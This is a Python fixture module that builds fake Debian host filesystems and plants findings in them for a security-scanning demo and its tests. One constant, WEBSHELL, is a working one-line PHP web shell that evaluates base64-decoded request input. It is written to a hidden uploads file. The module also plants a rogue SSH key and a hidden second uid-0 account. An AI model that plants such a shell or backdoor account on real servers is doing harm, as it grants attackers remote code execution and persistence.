"""A small fake Debian system for each lab host's root, with planted findings on a few hosts.

Hosts differ on purpose (package versions, users, a web shell here, a backdoored library there),
so the demo and the tests have something real to find and something real to miss.
"""

from __future__ import annotations

from pathlib import Path

PACKAGES = [
    ("openssh-server", "1:9.2p1-2+deb12u3", "amd64"),
    ("libc6", "2.36-9+deb12u7", "amd64"),
    ("nginx", "1.22.1-9", "amd64"),
    ("openssl", "3.0.14-1~deb12u2", "amd64"),
]
WEBSHELL = b"<?php if(isset($_REQUEST['c'])){ eval(base64_decode($_REQUEST['c'])); } ?>\n"
ALICE_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJlRxmlwXby+mozwhY7t/kyS4Y9MNRVoQHCyFMlESIck alice@laptop"
)
#: A key nobody issued, planted next to Alice's on a few hosts (the sshkey module's demo).
ROGUE_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIESPO9y9Ac8bLglICyIy+PWpsE1wIA50fhYyOXP8iXQF deploy@ci"
)
#: Stand-in bytes for the backdoored library; its sha256 is what the demo hunts for.
BACKDOOR = b"\x7fELF fake liblzma 5.6.0 with the build-to-host.m4 payload\n"


def has_webshell(index: int) -> bool:
    return index % 7 == 3


def has_backdoor(index: int) -> bool:
    return index % 10 == 4


def has_rogue_key(index: int) -> bool:
    return index % 6 == 1


def xz_version(index: int) -> str:
    return "5.6.0-0.2" if has_backdoor(index) else "5.4.1-0.2"


def seed_root(root: Path, index: int, name: str) -> None:
    files: dict[str, bytes] = {
        "etc/hostname": f"{name}\n".encode(),
        "etc/os-release": b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n',
        "etc/passwd": _passwd(index),
        "etc/ssh/sshd_config": _sshd_config(index),
        "home/alice/.bashrc": b"export PS1='\\u@\\h:\\w$ '\n",
        "home/alice/notes.txt": b"rotate the backup keys on friday\n",
        "home/alice/.ssh/authorized_keys": _authorized_keys(index),
        "srv/www/index.html": f"<h1>{name}</h1>\n".encode(),
        "var/log/syslog": f"Nov 29 10:00:00 {name} systemd[1]: Started nginx.\n".encode(),
        "var/lib/dpkg/status": _dpkg_status(index),
        "usr/lib/x86_64-linux-gnu/liblzma.so.5.4.1": b"\x7fELF liblzma 5.4.1\n",
    }
    if has_webshell(index):
        files["srv/www/uploads/.cache.php"] = WEBSHELL
    if has_backdoor(index):
        files["usr/lib/x86_64-linux-gnu/liblzma.so.5.6.0"] = BACKDOOR
    for relative, content in files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


def allows_passwords(index: int) -> bool:
    """An sshd that still takes passwords: the check baseline's failing hosts."""
    return index % 4 == 2


def _sshd_config(index: int) -> bytes:
    passwords = "yes" if allows_passwords(index) else "no"
    return f"PermitRootLogin no\nPasswordAuthentication {passwords}\n".encode()


def _authorized_keys(index: int) -> bytes:
    keys = [ALICE_KEY, *([ROGUE_KEY] if has_rogue_key(index) else [])]
    return ("\n".join(keys) + "\n").encode()


def _passwd(index: int) -> bytes:
    lines = ["root:x:0:0:root:/root:/bin/bash", "alice:x:1000:1000:Alice:/home/alice:/bin/bash"]
    if index % 5 == 2:
        lines.append("sysupd:x:0:0::/var/tmp/.s:/bin/sh")  # a second uid 0: suspicious
    return ("\n".join(lines) + "\n").encode()


def _dpkg_status(index: int) -> bytes:
    packages = [
        *PACKAGES,
        ("xz-utils", xz_version(index), "amd64"),
        ("liblzma5", xz_version(index), "amd64"),
    ]
    stanzas = [
        f"Package: {name}\nStatus: install ok installed\nArchitecture: {arch}\nVersion: {version}\n"
        for name, version, arch in packages
    ]
    return "\n".join(stanzas).encode()
